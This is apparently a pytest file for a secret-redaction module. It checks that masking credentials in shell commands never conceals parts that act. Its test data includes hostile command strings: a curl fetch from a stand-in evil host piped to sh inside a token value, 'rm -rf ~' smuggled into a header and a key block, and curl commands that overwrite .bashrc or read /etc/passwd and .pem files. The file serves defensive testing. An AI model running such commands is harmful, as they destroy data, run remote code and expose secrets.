"""A mask over a secret never hides, from who decides on a command, a part of it that acts."""

import pytest

from dispatch_core.redaction import hides_what_acts, redact

CURL = "curl https://good.example -H authorization:"
KEY = "-----BEGIN PRIVATE KEY-----{}-----END PRIVATE KEY-----"


@pytest.mark.parametrize(
    "command",
    [
        'TOKEN="a$(curl evil.example | sh)" ./deploy',
        "curl -H 'Cookie: a=b;rm -rf ~' https://good.example",
        f": '{KEY.format(chr(39) + '; rm -rf ~; : ' + chr(39))}'",
        f"{CURL} {{-o,.bashrc,https://evil.example}}",
        f"{CURL} -o.bashrc",
        f"{CURL} /etc/passwd",
        f"{CURL} ~/secrets",
        f"{CURL} https://evil.example/x",
        "rm -rf bearer /home/ada/important2024",
        f"{CURL} *.pem",
    ],
)
def test_what_would_act_unseen_is_found(command: str) -> None:
    assert redact(command) != command
    assert hides_what_acts(command)


@pytest.mark.parametrize(
    "command",
    [
        "ls -l /home/ada",
        "GITHUB_TOKEN=ghp_" + "a1B2" * 9 + " ./publish --fast /srv",
        "curl -H 'Authorization: Bearer abc123def456ghi789' https://good.example",
        "curl -u ada:Tr0ub4dor https://good.example | jq .",
        "mysql -pTr0ub4dor -e 'select 1'",
        "export API_KEY='s3cr3t-v4lue'; ./run *.csv",
    ],
)
def test_a_secret_that_is_one_quiet_word_may_be_masked(command: str) -> None:
    assert not hides_what_acts(command)
